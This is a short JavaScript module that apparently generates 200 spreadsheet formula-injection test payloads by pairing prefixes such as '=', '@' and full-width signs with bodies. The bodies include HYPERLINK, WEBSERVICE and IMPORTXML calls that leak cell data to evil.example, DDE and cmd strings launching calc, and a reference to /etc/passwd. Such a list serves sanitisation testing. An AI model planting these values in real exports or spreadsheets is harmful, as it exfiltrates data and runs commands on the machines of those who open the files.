const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  ' =',
  '\n=',
  "'=",
  '"=',
  ';=',
  ',=',
  '|=',
  '%=',
  '=+',
  '==',
  '＝',
  '＋',
  '－',
  '＠',
]
const bodies = [
  'HYPERLINK("http://evil.example/?d="&A1,"Open")',
  "cmd|'/C calc'!A0",
  'WEBSERVICE("http://evil.example/"&A1)',
  'IMPORTXML("http://evil.example","//a")',
  "'file:///etc/passwd'#$passwd.A1",
  'DDE("cmd";"/C calc";"x")',
  'SUM(1+1)*cmd|" /C calc"!A0',
  '1+1',
  'mailto:evil@example.org',
  'http://evil.example/\\\\evil.example\\share',
]

/** Two hundred texts that some spreadsheet program computes or follows as a link. */
export const payloads = beginnings.flatMap((beginning) => bodies.map((body) => beginning + body))
